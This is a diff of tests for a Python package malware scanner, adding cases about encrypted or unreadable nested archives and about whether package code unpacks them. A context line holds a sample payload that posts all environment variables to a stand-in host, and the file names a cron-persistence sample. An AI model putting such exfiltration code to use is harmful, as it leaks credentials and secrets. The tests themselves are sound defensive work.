@@ -20,7 +20,9 @@ malicious twin that must stay high:
 * a wheel whose METADATA (the long description) was rewritten after the build, all code
   matching RECORD, is shown at medium; code changed after the build stays high;
 * a module-level table of where a system keeps its crontabs, in a module that writes and
-  starts nothing, is data a cron library looks things up in, not persistence.
+  starts nothing, is data a cron library looks things up in, not persistence;
+* an archive the scan cannot open (encrypted with an unknown password) that no code of the
+  package names is data nothing shown unpacks: medium; named by code, it stays high.
 """
 
 from __future__ import annotations
@@ -31,7 +33,13 @@ import tarfile
 
 from app.core.archive import Limits, open_artifact
 from app.core.capabilities.scan import scan_artifact
-from tests.core.archive.fixtures import make_sdist, make_wheel, wheel_entries, zip_bytes
+from tests.core.archive.fixtures import (
+    make_sdist,
+    make_wheel,
+    raw_zip,
+    wheel_entries,
+    zip_bytes,
+)
 
 HIGH = ("high", "critical")
 
@@ -57,8 +65,14 @@ urllib.request.urlopen("http://192.0.2.7/c", data=repr(dict(os.environ)).encode(
 """
 
 
-def _scan_frozen(tmp_path, module: bytes, limits: Limits | None = None):
-    files = {"gizmo/__init__.py": b"", "gizmo/bin/sandbox-tool": _frozen_app(module)}
+# gizmo/__init__.py starting the bundled program: code that names it.
+STARTS_THE_TOOL = b"""import os, subprocess
+subprocess.run([os.path.join(os.path.dirname(__file__), "bin", "sandbox-tool")])
+"""
+
+
+def _scan_frozen(tmp_path, module: bytes, limits: Limits | None = None, init: bytes = b""):
+    files = {"gizmo/__init__.py": init, "gizmo/bin/sandbox-tool": _frozen_app(module)}
     return scan_artifact(open_artifact(make_wheel(tmp_path, name="gizmo", files=files), limits))
 
 
@@ -78,8 +92,11 @@ def test_a_payload_in_the_nested_library_archive_is_found_inside_it(tmp_path):
 
 
 def test_a_nested_archive_too_large_to_keep_stays_unread_high(tmp_path):
-    """Under limits that keep no binary's bytes, the inner archive is really not opened."""
-    res = _scan_frozen(tmp_path, BENIGN_LIBRARY, Limits(max_kept_binary_bytes=16))
+    """Under limits that keep no binary's bytes, the inner archive is really not opened;
+    the package's code starts the program that holds it."""
+    res = _scan_frozen(
+        tmp_path, BENIGN_LIBRARY, Limits(max_kept_binary_bytes=16), init=STARTS_THE_TOOL
+    )
     assert any(
         h.capability == "scan.unread" and h.path.endswith("base_library.zip") for h in res.findings
     )
@@ -190,7 +207,9 @@ def test_a_broken_archive_in_a_test_folder_is_reported_once_at_medium(tmp_path):
 
 
 def test_the_same_broken_archive_in_the_package_stays_unread_high(tmp_path):
-    files = {"gizmo/__init__.py": b"", "gizmo/payload/recursion.tar": _broken_tar()}
+    """Outside a test folder, with code that unpacks it."""
+    init = b'import tarfile\ntarfile.open(__path__[0] + "/payload/recursion.tar").extractall()\n'
+    files = {"gizmo/__init__.py": init, "gizmo/payload/recursion.tar": _broken_tar()}
     res = _scan(tmp_path, files)
     assert "disguise.unread" in _ids(res)
     assert res.risk.level in HIGH
@@ -402,4 +421,30 @@ def test_a_table_of_crontab_locations_in_a_module_that_only_reads_is_no_persiste
 def test_the_same_table_in_a_module_that_copies_itself_there_stays_persistence(tmp_path):
     res = _scan(tmp_path, {"gizmo/__init__.py": b"", "gizmo/tabs.py": CRON_DROPPER})
     assert "impact.persistence" in _ids(res)
+    assert res.risk.level in HIGH
+
+
+def _locked_zip() -> bytes:
+    """A zip whose every entry is encrypted with a password the scanner does not know."""
+    return raw_zip(
+        [{"name": b"weights/run.py", "data": b"print('secret')\n", "password": b"s3cret"}]
+    )
+
+
+def test_an_encrypted_archive_no_code_names_is_unread_at_medium(tmp_path):
+    files = {"gizmo/__init__.py": b"", "gizmo/assets/model.zip": _locked_zip()}
+    res = _scan(tmp_path, files)
+    unread = [h for h in res.findings if h.capability == "scan.unread"]
+    assert unread and all(h.severity == "medium" for h in unread)  # listed as not reviewed
+    assert res.risk.level not in HIGH
+
+
+def test_an_encrypted_archive_that_code_unpacks_stays_unread_high(tmp_path):
+    init = b"""import os, zipfile
+here = os.path.dirname(__file__)
+zipfile.ZipFile(os.path.join(here, "assets", "model.zip")).extractall(here, pwd=b"s3cret")
+"""
+    files = {"gizmo/__init__.py": init, "gizmo/assets/model.zip": _locked_zip()}
+    res = _scan(tmp_path, files)
+    assert "disguise.unread" in _ids(res)
     assert res.risk.level in HIGH
